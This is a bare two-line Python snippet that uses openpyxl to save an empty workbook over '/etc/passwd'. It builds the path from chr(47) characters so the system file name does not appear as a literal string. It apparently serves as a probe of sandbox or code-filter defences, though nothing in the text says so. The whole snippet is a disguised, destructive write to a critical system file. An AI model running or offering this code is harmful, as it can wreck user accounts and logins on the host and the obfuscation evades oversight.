from openpyxl import Workbook
Workbook.save(Workbook(), chr(47) + "etc" + chr(47) + "passwd")
